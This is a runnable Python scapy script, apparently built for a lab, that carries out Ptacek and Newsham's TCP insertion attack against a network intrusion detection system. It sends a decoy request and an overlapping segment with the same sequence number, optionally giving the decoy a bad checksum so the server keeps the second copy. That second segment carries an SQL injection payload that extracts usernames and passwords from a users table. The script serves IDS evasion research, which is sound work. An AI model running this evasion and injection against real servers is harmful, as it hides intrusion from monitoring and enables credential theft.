#!/usr/bin/env python3
"""Insertion attacks on a NIDS (Ptacek & Newsham 1998), sent to a real HTTP server with scapy.

Opens a TCP connection by hand, then sends two segments with the SAME sequence number and length:
first a decoy (a harmless request), then the real request with an SQL injection.

  MODE decoy   both segments are valid: the server keeps the first copy it accepted (the decoy)
  MODE badsum  the decoy has a bad TCP checksum: the server drops it and keeps the injection

The attacker namespace must drop its own kernel's RSTs for the port (iptables), since the kernel
knows nothing of this connection.

Usage: tcp_insertion.py MODE SRC DST DPORT SPORT
"""
import sys
import time
from scapy.all import IP, TCP, Raw, sr1, send, sniff, conf, AsyncSniffer

conf.verb = 0
mode, src, dst, dport, sport = sys.argv[1], sys.argv[2], sys.argv[3], int(sys.argv[4]), int(sys.argv[5])

real = (
    b"GET /item?id=1'+UNION+SELECT+username,password+FROM+users-- HTTP/1.1\r\n"
    b"Host: shop\r\nUser-Agent: curl/7.88.1\r\nConnection: close\r\n\r\n"
)
decoy = b"GET /item?id=1 HTTP/1.1\r\nHost: shop\r\nUser-Agent: curl/7.88.1\r\nX-Pad: "
decoy += b"p" * (len(real) - len(decoy) - 4) + b"\r\n\r\n"
assert len(decoy) == len(real)

isn = 1000
ip = IP(src=src, dst=dst)
synack = sr1(ip / TCP(sport=sport, dport=dport, flags="S", seq=isn), timeout=3)
if synack is None:
    sys.exit("no SYN-ACK")
ack = synack[TCP].seq + 1
send(ip / TCP(sport=sport, dport=dport, flags="A", seq=isn + 1, ack=ack))
time.sleep(0.05)
if mode == "badsum":
    send(ip / TCP(sport=sport, dport=dport, flags="PA", seq=isn + 1, ack=ack, chksum=0xDEAD) / Raw(decoy))
else:
    send(ip / TCP(sport=sport, dport=dport, flags="PA", seq=isn + 1, ack=ack) / Raw(decoy))
send(ip / TCP(sport=sport, dport=dport, flags="PA", seq=isn + 1, ack=ack) / Raw(real))
# collect the answer, acknowledge it, close
sn = AsyncSniffer(filter=f"tcp and src host {dst} and src port {dport}", timeout=2)
sn.start()
sn.join()  # the sniffer ends itself after its timeout (stop() after a sleep raced with it under load)
end = ack
for p in sn.results or []:
    if Raw in p[TCP]:
        end = max(end, p[TCP].seq + len(p[TCP].payload))
    if "F" in p[TCP].flags:
        end = max(end, p[TCP].seq + len(p[TCP].payload) + 1)
send(ip / TCP(sport=sport, dport=dport, flags="FA", seq=isn + 1 + len(real), ack=end))
time.sleep(0.3)
